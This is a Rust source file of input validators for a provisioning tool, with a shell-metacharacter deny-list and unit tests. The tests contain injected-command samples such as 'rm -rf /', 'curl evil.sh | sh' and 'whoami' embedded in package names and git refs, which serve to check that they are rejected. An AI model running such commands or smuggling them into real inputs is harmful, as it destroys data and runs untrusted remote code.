//! Shared input validation for provider-compiled steps: package
//! identifiers, module paths, git refs and raw shell tokens are
//! checked against a metacharacter deny-list before any subprocess
//! invocation, per the no-shell-injection testable property.

use preflight_types::{Error, ErrorKind};

/// Characters that must never reach a subprocess argument unescaped:
/// `;`, `&`, `|`, `$`, backtick and newline.
const DENIED_CHARS: [char; 6] = [';', '&', '|', '$', '`', '\n'];

/// Rejects any value containing a shell metacharacter. This is the
/// baseline every more specific validator below builds on.
pub fn reject_shell_metacharacters(value: &str) -> Result<(), Error> {
    if let Some(c) = value.chars().find(|c| DENIED_CHARS.contains(c)) {
        return Err(Error::new(ErrorKind::PolicyViolation).with_message(format!(
            "value `{value}` contains disallowed character `{c}`"
        )));
    }
    Ok(())
}

/// A package/formula identifier: alphanumerics, `-`, `_`, `.`, `@` (for
/// scoped npm packages) and `/` (for scopes), nothing else.
pub fn validate_package_identifier(value: &str) -> Result<(), Error> {
    reject_shell_metacharacters(value)?;
    if value.is_empty() {
        return Err(Error::new(ErrorKind::PolicyViolation).with_message("empty package identifier"));
    }
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@' | '/');
    if !value.chars().all(allowed) {
        return Err(Error::new(ErrorKind::PolicyViolation)
            .with_message(format!("`{value}` is not a valid package identifier")));
    }
    Ok(())
}

/// A version string: digits, dots, hyphens and alphanumerics (covers
/// semver and its prerelease/build suffixes).
pub fn validate_version(value: &str) -> Result<(), Error> {
    reject_shell_metacharacters(value)?;
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+');
    if !value.is_empty() && value.chars().all(allowed) {
        Ok(())
    } else {
        Err(Error::new(ErrorKind::PolicyViolation)
            .with_message(format!("`{value}` is not a valid version string")))
    }
}

/// A filesystem-ish module path or config key (e.g. `com.apple.dock`,
/// `nvim/init.lua`).
pub fn validate_module_path(value: &str) -> Result<(), Error> {
    reject_shell_metacharacters(value)?;
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/');
    if !value.is_empty() && value.chars().all(allowed) {
        Ok(())
    } else {
        Err(Error::new(ErrorKind::PolicyViolation)
            .with_message(format!("`{value}` is not a valid module path")))
    }
}

/// A generic shell token passed as a literal argument (e.g. a macOS
/// `defaults` value). Metacharacters are rejected but the charset is
/// otherwise permissive since these values are free text.
pub fn validate_shell_token(value: &str) -> Result<(), Error> {
    reject_shell_metacharacters(value)
}

/// A git ref used to pin a module version (tag, branch, or short/long
/// commit sha): alphanumerics, `.`, `-`, `_`, `/`, nothing else.
pub fn validate_git_ref(value: &str) -> Result<(), Error> {
    reject_shell_metacharacters(value)?;
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '/');
    if !value.is_empty() && value.chars().all(allowed) {
        Ok(())
    } else {
        Err(Error::new(ErrorKind::PolicyViolation).with_message(format!("`{value}` is not a valid git ref")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_ordinary_package_names() {
        assert!(validate_package_identifier("ripgrep").is_ok());
        assert!(validate_package_identifier("@angular/cli").is_ok());
    }

    #[test]
    fn rejects_shell_metacharacters_in_package_names() {
        for poisoned in ["ripgrep; rm -rf /", "fd && curl evil.sh | sh", "pkg`whoami`", "pkg\n"] {
            assert!(validate_package_identifier(poisoned).is_err(), "{poisoned} should be rejected");
        }
    }

    #[test]
    fn rejects_dollar_sign_interpolation() {
        assert!(validate_shell_token("$HOME/evil").is_err());
    }

    #[test]
    fn validates_semver_versions() {
        assert!(validate_version("14.1.0").is_ok());
        assert!(validate_version("1.0.0-rc.1+build.5").is_ok());
        assert!(validate_version("").is_err());
    }

    #[test]
    fn validates_dotted_module_paths() {
        assert!(validate_module_path("com.apple.dock").is_ok());
        assert!(validate_module_path("nvim/init.lua").is_ok());
        assert!(validate_module_path("com.apple.dock; id").is_err());
    }

    #[test]
    fn validates_git_refs() {
        assert!(validate_git_ref("v1.2.3").is_ok());
        assert!(validate_git_ref("main").is_ok());
        assert!(validate_git_ref("refs/tags/v1.2.3; rm -rf /").is_err());
    }
}
